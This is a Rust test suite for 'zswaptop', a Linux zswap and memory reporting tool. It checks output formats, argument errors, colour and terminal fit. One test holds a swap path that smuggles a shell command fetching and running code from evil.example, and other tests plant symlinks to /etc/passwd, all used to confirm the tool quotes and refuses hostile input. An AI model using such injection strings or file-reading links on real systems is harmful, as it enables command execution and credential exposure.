//! `zswaptop --once` as a process: text and JSON snapshots of fixture trees, bad arguments,
//! closed pipes, colour (the unprivileged fallback, which needs root, is in the environment module).

use crate::common;

use std::process::{Command, Stdio};

use assert_cmd::cargo::CommandCargoExt;
use assert_cmd::prelude::*;
use predicates::prelude::*;

fn zswaptop() -> Command {
    let mut c = Command::cargo_bin("zswaptop").unwrap();
    c.current_dir(env!("CARGO_MANIFEST_DIR"));
    c.env_remove("NO_COLOR");
    c
}

/// Run `zswaptop ARGS` successfully and return its stdout.
fn run_ok(args: &[&str]) -> Vec<u8> {
    let out = zswaptop().args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// The complete report (`--once --full`).
fn once_text(fixture: &str) -> String {
    let root = format!("tests/fixtures/{fixture}");
    String::from_utf8(run_ok(&["--once", "--full", "--root", &root])).unwrap()
}

/// The one-screen summary (`--once`).
fn once_summary(fixture: &str) -> String {
    let root = format!("tests/fixtures/{fixture}");
    String::from_utf8(run_ok(&["--once", "--root", &root])).unwrap()
}

fn once_json(fixture: &str) -> serde_json::Value {
    let root = format!("tests/fixtures/{fixture}");
    serde_json::from_slice(&run_ok(&["--once", "--json", "--root", &root])).unwrap()
}

/// The header says whether we run as root; that depends on who runs the tests.
fn settings() -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    s.add_filter(r"  (not root|root)\n", "  [uid]\n");
    s
}

#[test]
fn text_snapshots() {
    for fixture in ["linux-6.18-idle", "linux-6.18-loaded"] {
        let text = once_text(fixture);
        for line in text.lines() {
            assert!(
                line.chars().count() <= 80,
                "{fixture}: line over 80 columns: {line:?}"
            );
        }
        assert!(
            !text.contains("\x1b["),
            "no colour when stdout is not a terminal"
        );
        settings().bind(|| insta::assert_snapshot!(format!("text-{fixture}"), text));
    }
}

#[test]
fn json_snapshots() {
    for fixture in ["linux-6.18-idle", "linux-6.18-loaded"] {
        let json = once_json(fixture);
        insta::assert_json_snapshot!(format!("json-{fixture}"), json, {
            ".host.privileged" => "[uid]",
            ".timestamp" => "[timestamp]",
        });
    }
}

/// The names of every fixture tree.
fn fixture_names() -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(common::fixture_dir(""))
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn every_fixture_runs_and_sums() {
    for name in fixture_names() {
        let text = once_text(&name);
        assert!(text.starts_with("zswaptop"), "{name}");
        for line in text.lines() {
            assert!(
                line.chars().count() <= 80,
                "{name}: line over 80 columns: {line:?}"
            );
        }
        let json = once_json(&name);
        assert_eq!(json["schema_version"], 2);
        assert!(json["diagnostics"].is_array());
        if let (Some(total), Some(b)) = (
            json["memory"]["total_bytes"].as_i64(),
            json["memory"]["breakdown"].as_object(),
        ) {
            let sum: i64 = b.values().filter_map(|v| v.as_i64()).sum();
            assert_eq!(sum, total, "{name}: breakdown sums to MemTotal");
        }
    }
}

#[test]
fn contract_keys_are_present() {
    let j = once_json("linux-6.18-loaded");
    for key in [
        "memory.total_bytes",
        "memory.available_bytes",
        "memory.free_cmd_used_bytes",
        "memory.hidden_in_used_bytes",
        "memory.breakdown.apps_bytes",
        "memory.breakdown.swap_cache_bytes",
        "memory.breakdown.page_cache_bytes",
        "memory.breakdown.shmem_bytes",
        "memory.breakdown.kernel_bytes",
        "memory.breakdown.hugetlb_bytes",
        "memory.breakdown.zswap_pool_bytes",
        "memory.breakdown.zram_pool_bytes",
        "memory.breakdown.free_bytes",
        "memory.breakdown.pcp_free_bytes",
        "memory.breakdown.unaccounted_bytes",
        "memory.swap_cache_mapped_bytes",
        "memory.pcp_free_age_ms",
        "timestamp",
        "interval_seconds",
        "page_size.size_bytes",
        "zswap.available",
        "zswap.enabled",
        "zswap.compressor",
        "zswap.boot_compressor",
        "zswap.max_pool_percent",
        "zswap.accept_threshold_percent",
        "zswap.shrinker_enabled",
        "zswap.pool_bytes",
        "zswap.stored_bytes",
        "zswap.compression_ratio",
        "zswap.pool_limit_bytes",
        "zswap.debugfs",
        "zswap.unavailable",
        "swap.total_bytes",
        "swap.used_bytes",
        "swap.in_zswap_bytes",
        "swap.devices.0.path",
        "swap.devices.0.type",
        "swap.devices.0.size_bytes",
        "swap.devices.0.used_bytes",
        "swap.devices.0.priority",
        "zram.0.device",
        "zram.0.algorithm",
        "zram.0.disksize_bytes",
        "zram.0.orig_data_bytes",
        "zram.0.compr_data_bytes",
        "zram.0.mem_used_bytes",
        "zram.0.compression_ratio",
        "diagnostics",
    ] {
        assert!(common::json_path(&j, key).is_some(), "missing key {key}");
    }
    assert_eq!(j["memory"]["breakdown"].as_object().unwrap().len(), 11);
}

#[test]
fn without_debugfs_values_are_null_with_a_reason() {
    // The loaded tree minus its debugfs: the pool comes from meminfo, debugfs-only values are null.
    let tmp = tempfile::tempdir().unwrap();
    common::copy_dir(&common::fixture_dir("linux-6.18-loaded"), tmp.path());
    std::fs::remove_dir_all(tmp.path().join("sys/kernel/debug/zswap")).unwrap();
    let out = zswaptop()
        .args(["--json", "--root"])
        .arg(tmp.path())
        .output()
        .unwrap();
    assert!(out.status.success());
    let j: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(j["zswap"]["pool_bytes"], 522_948_608u64);
    assert_eq!(j["zswap"]["pool_source"], "meminfo");
    assert!(j["zswap"]["debugfs"].is_null());
    assert!(j["zswap"]["incompressible_bytes"].is_null());
    assert!(j["zswap"]["compressor_ratio"].is_null());
    let reasons = j["zswap"]["unavailable"].to_string();
    assert!(reasons.contains("debugfs is not mounted"), "{reasons}");
    assert!(
        reasons.contains("mount -t debugfs none /sys/kernel/debug"),
        "{reasons}"
    );
}

#[test]
fn bad_arguments_fail_clearly() {
    zswaptop()
        .args(["--once", "-i", "0.01"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("interval '0.01'"));
    zswaptop()
        .args(["--once", "--root", "/nonexistent/tree"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "root '/nonexistent/tree' is not a directory",
        ));
    zswaptop().arg("--bogus").assert().code(2);
}

#[test]
fn closed_pipe_exits_quietly() {
    let once = ["--once", "--root", "tests/fixtures/linux-6.18-loaded"];
    for args in [&once[..], &["man"], &["completions", "bash"]] {
        let mut child = zswaptop()
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Close the read end at once, as `| head -0` would.
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{args:?}: exit {:?}", out.status);
        assert!(
            out.stderr.is_empty(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// `--once` text into a pipe (not a terminal) with `--color` and NO_COLOR: whether it has SGR
/// escapes.
fn coloured(args: &[&str], no_color_env: bool) -> bool {
    let mut c = zswaptop();
    if no_color_env {
        c.env("NO_COLOR", "1");
    }
    let out = c
        .args(["--once", "--root", "tests/fixtures/linux-6.18-loaded"])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "{args:?}");
    String::from_utf8(out.stdout).unwrap().contains("\x1b[")
}

#[test]
fn color_flag_and_no_color() {
    // auto: never into a pipe.
    assert!(!coloured(&[], false));
    assert!(!coloured(&["--color=auto"], false));
    // always: into a pipe too (`| less -R`), and over NO_COLOR.
    assert!(coloured(&["--color=always"], false));
    assert!(coloured(&["--color=always"], true));
    // never, and the old spelling.
    assert!(!coloured(&["--color=never"], false));
    assert!(!coloured(&["--no-color"], false));
    // The JSON is never coloured.
    let out = run_ok(&[
        "--json",
        "--color=always",
        "--root",
        "tests/fixtures/linux-6.18-loaded",
    ]);
    assert!(!String::from_utf8(out).unwrap().contains('\x1b'));
}

#[test]
fn color_always_styles_the_same_text() {
    // Colour adds escapes only: without them the text is the plain report, line for line.
    let root = "tests/fixtures/linux-6.18-loaded";
    let plain = String::from_utf8(run_ok(&["--once", "--root", root])).unwrap();
    let coloured =
        String::from_utf8(run_ok(&["--once", "--color=always", "--root", root])).unwrap();
    let stripped = strip_sgr(&coloured);
    assert_ne!(coloured, plain);
    assert_eq!(stripped, plain);
}

/// The text without its `ESC [ … m` sequences.
fn strip_sgr(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find("\x1b[") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let end = after.find('m').map_or(after.len(), |e| e + 1);
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

#[test]
fn interval_once_fills_rates() {
    let j = once_json_args(&[
        "--json",
        "-i",
        "0.1",
        "--root",
        "tests/fixtures/linux-6.18-loaded",
    ]);
    // Same tree read twice: counters unchanged, so rates are exactly 0 (not null).
    assert_eq!(j["rates"]["zswpout_bytes_per_sec"], 0.0);
    // Every registry counter with a counter line gets a rate by its id, in JSON and in the text.
    let per_sec = j["rates"]["per_sec"].as_object().unwrap();
    for m in zswaptop::model::metrics::reaching(zswaptop::model::metrics::Output::CounterLine) {
        assert_eq!(per_sec.get(m.id), Some(&serde_json::json!(0.0)), "{}", m.id);
    }
    let text = String::from_utf8(run_ok(&[
        "--once",
        "--full",
        "-i",
        "0.1",
        "--root",
        "tests/fixtures/linux-6.18-loaded",
    ]))
    .unwrap();
    assert!(
        text.contains("swap_ra_hit                      120115 pages  0 B/s"),
        "{text}"
    );
    let j = once_json("linux-6.18-loaded");
    assert!(j["rates"].is_null(), "one sample has no rates");
}

fn once_json_args(args: &[&str]) -> serde_json::Value {
    serde_json::from_slice(&run_ok(args)).unwrap()
}

#[test]
fn unreadable_zram_leaves_its_cost_unknown() {
    // The loaded tree with zram0's mm_stat broken: zram's RAM is unknown, so are the figures
    // that subtract it — never computed as if it were 0.
    let tmp = tempfile::tempdir().unwrap();
    common::copy_dir(&common::fixture_dir("linux-6.18-loaded"), tmp.path());
    std::fs::write(tmp.path().join("sys/block/zram0/mm_stat"), "1 2\n").unwrap();
    let root = tmp.path().to_str().unwrap();
    let j: serde_json::Value =
        serde_json::from_slice(&run_ok(&["--json", "--root", root])).unwrap();
    assert!(j["memory"]["breakdown"]["zram_pool_bytes"].is_null());
    assert!(j["memory"]["hidden_in_used_bytes"].is_null());
    assert!(j["capacity"]["effective_now_bytes"].is_null());
    assert!(j["capacity"]["effective_at_pool_limit_bytes"].is_null());
    // What doesn't depend on zram stays known.
    assert!(j["capacity"]["zswap_resident_max_bytes"].is_u64());
}

/// A swap path holding shell syntax (tests/fixtures/hostile-paths): the printed fix quotes it as
/// one word, in text and in JSON; at 80 columns the text breaks the command only where the shell
/// reads on (never inside the quoted path), so the lines copied from the report are the same
/// command to the shell as the one in JSON.
#[test]
fn fix_commands_quote_hostile_swap_paths() {
    let path = "/var/swap;curl${IFS}evil.example|sh;# $(id)`id`'q\"";
    let json = once_json("hostile-paths");
    let fix = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "swap-priorities")
        .and_then(|f| f["fix"].as_str())
        .unwrap()
        .to_string();
    let cmd = fix.split("Give them one priority: `").nth(1).unwrap();
    let cmd = &cmd[..cmd.find("`; to keep it").unwrap()];
    let words = shlex::split(cmd).unwrap();
    assert_eq!(
        words.iter().filter(|w| w.as_str() == path).count(),
        2,
        "{words:?}"
    );
    assert!(
        words.iter().all(|w| w == path || !w.contains("evil")),
        "{words:?}"
    );

    let text = once_text("hostile-paths");
    let lines: Vec<String> = text
        .lines()
        .skip_while(|l| !l.starts_with("        fix: "))
        .take_while(|l| !l.starts_with("        why: "))
        .map(str::to_string)
        .collect();
    assert!(lines.len() > 2, "{text}");
    for l in &lines {
        assert!(l.chars().count() <= 80, "wider than 80 columns: {l:?}");
    }
    let copied = common::copied_priority_command(&lines, 13);
    assert!(copied.contains('\n'), "the command fits one line: {copied}");
    let shell = common::shell_words(cmd);
    assert_eq!(common::shell_words(&copied), shell, "copied:\n{copied}");
    assert_eq!(shell.matches(&format!("[{path}]\n")).count(), 2, "{shell}");
    assert!(!text.contains("swapoff /var/swap;"), "{text}");
}

/// An untrusted tree (a copy of linux-6.18-idle) with `edit` applied: `--once` and `--once --json`
/// both end normally within 5 s. Returns the text output.
fn once_hostile_tree(edit: impl FnOnce(&std::path::Path)) -> String {
    let t = tempfile::tempdir().unwrap();
    common::copy_dir(&common::fixture_dir("linux-6.18-idle"), t.path());
    edit(t.path());
    let mut text = String::new();
    for json in [false, true] {
        let mut cmd = zswaptop();
        cmd.args(["--once", "--full", "--root"]).arg(t.path());
        if json {
            cmd.arg("--json");
        }
        let mut child = cmd.stdout(Stdio::piped()).spawn().unwrap();
        let mut out = child.stdout.take().unwrap();
        let reader = std::thread::spawn(move || {
            let mut s = String::new();
            std::io::Read::read_to_string(&mut out, &mut s).unwrap();
            s
        });
        let start = std::time::Instant::now();
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            if start.elapsed() > std::time::Duration::from_secs(5) {
                child.kill().unwrap();
                panic!("still running after 5 s (json {json})");
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        assert!(status.success(), "json {json}: {status}");
        let s = reader.join().unwrap();
        if json {
            serde_json::from_str::<serde_json::Value>(&s).unwrap();
        } else {
            text = s;
        }
    }
    text
}

#[test]
fn untrusted_tree_endless_file_is_refused() {
    let text = once_hostile_tree(|r| {
        std::fs::remove_file(r.join("proc/vmstat")).unwrap();
        std::os::unix::fs::symlink("/dev/zero", r.join("proc/vmstat")).unwrap();
    });
    assert!(
        text.contains("/proc/vmstat: malformed: a link leads out of the tree: refused"),
        "{text}"
    );
}

#[test]
fn untrusted_tree_huge_file_is_refused() {
    let text = once_hostile_tree(|r| {
        let f = std::fs::File::create(r.join("proc/meminfo")).unwrap();
        f.set_len(96 << 20).unwrap();
    });
    assert!(
        text.contains("/proc/meminfo: malformed: larger than 16777216 bytes: not a kernel file"),
        "{text}"
    );
}

#[test]
fn untrusted_tree_fifo_is_refused_at_once() {
    let text = once_hostile_tree(|r| {
        let p = r.join("proc/swaps");
        std::fs::remove_file(&p).unwrap();
        assert!(Command::new("mkfifo").arg(&p).status().unwrap().success());
    });
    assert!(
        text.contains("/proc/swaps: malformed: a FIFO, not a kernel file: refused"),
        "{text}"
    );
}

#[test]
fn untrusted_tree_links_out_of_it_are_refused() {
    let link = |r: &std::path::Path, rel: &str, target: &str| {
        let p = r.join(rel);
        if p.is_dir() {
            std::fs::remove_dir_all(&p).unwrap();
        } else {
            std::fs::remove_file(&p).unwrap();
        }
        std::os::unix::fs::symlink(target, p).unwrap();
    };
    assert!(once_text("linux-6.18-idle").contains("zram0"));
    let text = once_hostile_tree(|r| {
        link(r, "proc/vmstat", "/etc/passwd");
        link(r, "proc/meminfo", "../../../../../../../../etc/passwd");
        // A directory link to the live sysfs: its devices are not the tree's.
        link(r, "sys/block", "/sys/block");
    });
    for file in ["vmstat", "meminfo"] {
        assert!(
            text.contains(&format!(
                "/proc/{file}: malformed: a link leads out of the tree: refused"
            )),
            "{text}"
        );
    }
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    let first = passwd.lines().next().unwrap();
    assert!(!text.contains(first) && !text.contains("root:"), "{text}");
    assert!(!text.contains("zram0"), "{text}");
}

#[test]
fn an_unreadable_source_names_its_fix_and_its_kind() {
    // The loaded tree without PSI: the source's reason comes with the command that gets it, and
    // the JSON status says what kind of trouble it is.
    let tmp = tempfile::tempdir().unwrap();
    common::copy_dir(&common::fixture_dir("linux-6.18-loaded"), tmp.path());
    std::fs::remove_file(tmp.path().join("proc/pressure/memory")).unwrap();
    let root = tmp.path().to_str().unwrap();
    let text = String::from_utf8(run_ok(&["--once", "--full", "--root", root])).unwrap();
    assert!(
        text.contains("/proc/pressure/memory: PSI is disabled"),
        "{text}"
    );
    assert!(
        text.contains("to get it: add psi=1 to the kernel command line and reboot"),
        "{text}"
    );
    let j: serde_json::Value =
        serde_json::from_slice(&run_ok(&["--format", "json", "--root", root])).unwrap();
    let psi = j["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["source"] == "/proc/pressure/memory")
        .unwrap();
    assert_eq!(psi["status"], "missing");
}

/// `--once` fits an 80×24 terminal: at most 22 lines of at most 80 columns, the lines the
/// summary keeps spare left free, and nothing cut at the end of a line.
fn assert_one_screen(name: &str, text: &str) {
    let lines: Vec<&str> = text.lines().collect();
    use zswaptop::report::summary::{MAX_LINES, SPARE_LINES};
    assert!(
        lines.len() <= MAX_LINES - SPARE_LINES,
        "{name}: {} lines:\n{text}",
        lines.len()
    );
    for line in &lines {
        assert!(
            line.chars().count() <= 80,
            "{name}: line over 80 columns: {line:?}"
        );
        assert!(!line.ends_with('…'), "{name}: a line cut: {line:?}");
    }
}

/// The trees whose names (host, kernel, paths, compressor) are built to be too long or hostile:
/// only there may a name be shortened (in the middle, with `…`).
const LONG_NAMES: &[&str] = &["hostile-names", "hostile-paths", "garbage"];

/// Every figure of the summary is whole: a figure is never next to the mark of a cut.
fn assert_nothing_cut(name: &str, text: &str) {
    if !LONG_NAMES.contains(&name) {
        assert!(!text.contains('…'), "{name}: something cut:\n{text}");
    }
    let chars: Vec<char> = text.chars().collect();
    for w in chars.windows(2) {
        let cut_figure =
            (w[0] == '…' && w[1].is_ascii_digit()) || (w[1] == '…' && w[0].is_ascii_digit());
        assert!(
            !cut_figure || LONG_NAMES.contains(&name),
            "{name}: a figure cut:\n{text}"
        );
    }
}

/// Every fixture tree, with and without an interval: one screen, nothing cut.
#[test]
fn the_summary_fits_one_screen_on_every_tree() {
    let mut seen = 0;
    for name in fixture_names() {
        let text = once_summary(&name);
        assert!(text.starts_with("zswaptop"), "{name}");
        assert_one_screen(&name, &text);
        assert_nothing_cut(&name, &text);
        let root = format!("tests/fixtures/{name}");
        let rated = String::from_utf8(run_ok(&["--once", "-i", "0.1", "--root", &root])).unwrap();
        assert_one_screen(&name, &rated);
        assert_nothing_cut(&name, &rated);
        assert!(rated.contains("\nRATES "), "{name}: no rates:\n{rated}");
        // In colour too: the escapes add no visible column.
        let coloured =
            String::from_utf8(run_ok(&["--once", "--color=always", "--root", &root])).unwrap();
        assert_eq!(strip_sgr(&coloured), text, "{name}");
        seen += 1;
    }
    assert!(seen >= 20, "only {seen} trees");
}

/// Sixteen zram devices and a tree with most sources broken: what does not fit is counted on a
/// line of its own, never past the screen.
#[test]
fn the_summary_folds_what_does_not_fit() {
    let tmp = tempfile::tempdir().unwrap();
    common::copy_dir(&common::fixture_dir("depth-cgroup-v2"), tmp.path());
    let zram0 = common::fixture_dir("linux-6.18-zram").join("sys/block/zram0");
    let mut swaps = String::from("Filename\tType\tSize\tUsed\tPriority\n");
    for i in 0..16 {
        let dev = tmp.path().join(format!("sys/block/zram{i}"));
        let _ = std::fs::remove_dir_all(&dev);
        common::copy_dir(&zram0, &dev);
        swaps.push_str(&format!("/dev/zram{i}\tpartition\t1048572\t316176\t{i}\n"));
    }
    std::fs::write(tmp.path().join("proc/swaps"), swaps).unwrap();
    let root = tmp.path().to_str().unwrap();
    let text = String::from_utf8(run_ok(&["--once", "--root", root])).unwrap();
    assert_one_screen("sixteen zram devices", &text);
    assert!(text.contains("+13 more swap areas (--full)"), "{text}");
    assert!(text.contains("WARN zswap-zram"), "{text}");
    // The full report lists every one.
    let full = String::from_utf8(run_ok(&["--once", "--full", "--root", root])).unwrap();
    assert!(full.contains("zram15"), "{full}");

    let text = once_hostile_tree(|_| {});
    assert!(
        text.contains("DIAGNOSTICS"),
        "the hostile trees give the full report"
    );
    for name in ["garbage", "truncated", "empty-root", "hostile-names"] {
        assert_one_screen(name, &once_summary(name));
    }
}

/// What the summary holds, on a tree under zswap load with findings.
#[test]
fn the_summary_answers_in_one_screen() {
    let text = once_summary("depth-cgroup-v2");
    for want in [
        "MEMORY  total 23.5G  used 1.1G (as free says)  available 22.5G",
        "  of that used: zswap pool 218.7M",
        "  Z zswap pool            218.7M   0.9%",
        "  zero: swap cache (est.), hugetlb, zram pool",
        "ZSWAP  on  compressor lzo  pool limit 1%  accept at 90%  shrinker off  rejects 0\n",
        "  pool 218.7M of 241.1M 91%  stored 432.9M  ratio 1.98:1  written back 3.2M\n",
        "  0.1% of stores written back  limit hits 55069\n",
        "SWAP  654.6M/1.0G:  zswap 432.9M  SwapCached 260K  on disk or zero-filled 221.4M\n",
        "  /swapfile-fx  file  654.6M used of 1.0G  priority -2\n",
        "WARN shrinker-off: ",
        "2 info: page-cluster, pool-full",
    ] {
        assert!(text.contains(want), "{want:?} not in:\n{text}");
    }
    // The full report's sections are not in it.
    for not in ["TUNABLES", "KERNEL COUNTERS", "fix:", "why:"] {
        assert!(!text.contains(not), "{not:?} in:\n{text}");
    }
    // --top and --cgroups add their facts and their tables.
    let root = "tests/fixtures/depth-cgroup-v2";
    let with = String::from_utf8(run_ok(&[
        "--once",
        "--top",
        "3",
        "--cgroups",
        "--root",
        root,
    ]))
    .unwrap();
    // The one screen says the processes' and the cgroups' facts (present::processes,
    // present::cgroups) on lines of their own, what gives way for them counted (here the
    // processes' facts, whose table follows); then the tables.
    let head: Vec<&str> = with.lines().take_while(|l| !l.is_empty()).collect();
    assert!(head.len() <= 22, "{with}");
    for want in [
        "+3 more on processes (--full)",
        "CGROUPS  ",
        "WARN shrinker-off: ",
    ] {
        assert!(
            head.iter().any(|l| l.contains(want)),
            "{want:?} not in:\n{with}"
        );
    }
    let kept = [
        "MEMORY  ",
        "ZSWAP  ",
        "SWAP  ",
        "2 info: page-cluster, pool-full",
    ];
    for line in text
        .lines()
        .filter(|l| kept.iter().any(|k| l.starts_with(k)))
    {
        assert!(head.contains(&line), "{line:?} not in:\n{with}");
    }
    assert!(
        with.contains("PROCESSES BY SWAP") && with.contains("\nCGROUPS\n"),
        "{with}"
    );
}

#[test]
fn summary_snapshots() {
    for fixture in ["linux-6.18-idle", "linux-6.18-loaded", "linux-6.18-zram"] {
        let text = once_summary(fixture);
        settings().bind(|| insta::assert_snapshot!(format!("summary-{fixture}"), text));
    }
}

/// `--ascii`, and a locale that is not UTF-8, give ASCII only in the summary and the full
/// report (the missing mark, cuts, separators and units included), the same lines otherwise.
#[test]
fn ascii_gives_ascii_only() {
    for name in [
        "linux-6.18-loaded",
        "tiers-zswap-zram-disk",
        "hostile-names",
    ] {
        let root = format!("tests/fixtures/{name}");
        for full in [false, true] {
            let mut args = vec!["--once", "--root", &root];
            if full {
                args.push("--full");
            }
            let plain = String::from_utf8(run_ok(&args)).unwrap();
            assert!(
                !plain.is_ascii(),
                "{name}: the plain text has no mark to replace"
            );
            for (flag, lang) in [(Some("--ascii"), "C.UTF-8"), (None, "C")] {
                let mut c = zswaptop();
                c.args(&args).args(flag).env("LANG", lang);
                c.env_remove("LC_ALL").env_remove("LC_CTYPE");
                let out = c.output().unwrap();
                assert!(out.status.success());
                let text = String::from_utf8(out.stdout).unwrap();
                assert!(text.is_ascii(), "{name} {flag:?} {lang}: {text}");
                // Character for character: the lines keep their widths.
                let widths = |t: &str| t.lines().map(|l| l.chars().count()).collect::<Vec<_>>();
                assert_eq!(widths(&text), widths(&plain), "{name} {flag:?} {lang}");
            }
        }
    }
}

/// A parameter the kernel does not have reads "not in this kernel" (6.1 has no shrinker), not
/// the missing mark; the allocator is named where the kernel offers a choice (`zpool`).
#[test]
fn settings_the_kernel_lacks_and_the_allocator() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("tree");
    common::copy_dir(&common::fixture_dir("linux-6.18-loaded"), &root);
    let params = root.join("sys/module/zswap/parameters");
    std::fs::remove_file(params.join("shrinker_enabled")).unwrap();
    std::fs::write(params.join("zpool"), "zbud\n").unwrap();
    let root = root.to_str().unwrap();
    let summary = String::from_utf8(run_ok(&["--once", "--root", root])).unwrap();
    assert!(summary.contains("shrinker not in this kernel"), "{summary}");
    assert!(summary.contains("lzo on zbud"), "{summary}");
    let full = String::from_utf8(run_ok(&["--once", "--full", "--root", root])).unwrap();
    assert!(
        full.contains("shrinker not in this kernel  allocator zbud"),
        "{full}"
    );
    for text in [&summary, &full] {
        for line in text.lines() {
            assert!(line.chars().count() <= 80, "over 80 columns: {line:?}");
        }
    }
}
